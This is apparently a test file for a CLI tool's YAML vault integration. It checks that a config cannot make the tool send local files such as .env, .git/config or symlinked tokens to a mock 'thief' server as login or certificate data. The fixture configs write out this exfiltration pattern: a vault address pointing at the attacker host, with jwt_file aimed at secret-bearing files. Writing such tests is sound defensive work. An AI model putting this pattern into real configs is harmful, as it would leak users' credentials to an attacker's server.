// @module-tag ci
/** YAML that has a file of the machine sent to a server that its author chose. */
import { mkdirSync, symlinkSync } from "node:fs";
import { writeFile } from "node:fs/promises";
import path from "node:path";
import { describe, expect, test } from "vitest";
import { newFolder, type Project, startProject } from "../cli/hosting.js";
import { canary, shown, startThief, withSource } from "./thief.js";

describe("files of the machine", () => {
  const places: readonly (readonly [of: string, place: (project: Project) => Promise<string>])[] = [
    [
      "outside the project",
      async () => {
        const file = path.join(await newFolder(), "token");
        await writeFile(file, canary);
        return file;
      },
    ],
    [
      "outside the project, through a link",
      async ({ folder }) => {
        const outside = await newFolder();
        await writeFile(path.join(outside, "token"), canary);
        symlinkSync(outside, path.join(folder, "linked"));
        return "linked/token";
      },
    ],
    [
      "that may hold keys",
      async ({ folder, write }) => {
        mkdirSync(path.join(folder, ".git"));
        await write(".git/config", canary);
        return ".git/config";
      },
    ],
    [
      "that may hold keys, through a link",
      async ({ folder, write }) => {
        await write(".env", `KEY=${canary}`);
        symlinkSync(".env", path.join(folder, "plain.txt"));
        return "plain.txt";
      },
    ],
  ];

  test.each(places)("a file of the machine is not sent to a vault as a login: %s", async (_, place) => {
    const thief = await startThief();
    const project = await startProject();
    const file = await place(project);
    for (const auth of ["jwt", "kubernetes"]) {
      const source = `!vault { path: kv/llm, field: key, address: "${thief.url}", auth: ${auth}, role: x, jwt_file: "${file}" }`;
      await project.write("avatarops.yaml", withSource(source));
      for (const environment of [{}, { AVATAROPS_PIN: "1", AVATAROPS_ALLOW_HOSTS: thief.host }]) {
        const planned = await project.avataropsWith({ environment }, "plan");
        expect(shown(planned)).toMatch(/outside\s+the\s+project|may\s+hold\s+keys/);
        expect(shown(planned)).not.toContain(canary);
      }
      await project.avatarops("apply", "-y");
    }
    expect(thief.heard()).not.toContain(canary);
  });

  test("a file of certificates is one of the project, or one that the environment names", async () => {
    const thief = await startThief();
    const outside = path.join(await newFolder(), "ca.pem");
    await writeFile(outside, canary);
    const source = `!vault { path: kv/llm, field: key, address: "${thief.url}", ca_cert_file: "${outside}" }`;
    const project = await startProject({ files: { "avatarops.yaml": withSource(source) } });
    const planned = await project.avatarops("plan");
    expect(shown(planned)).toMatch(/outside\s+the\s+project/);
    const environment = { VAULT_TOKEN: "hvs.x", VAULT_CACERT: outside };
    await project.write("avatarops.yaml", withSource(source.replace(/, ca_cert_file.*/, " }")));
    // It is opened: only what is in it is wrong.
    expect(shown(await project.avataropsWith({ environment }, "plan"))).toMatch(
      /is\s+not\s+a\s+file\s+of\s+certificates/,
    );
  });
});
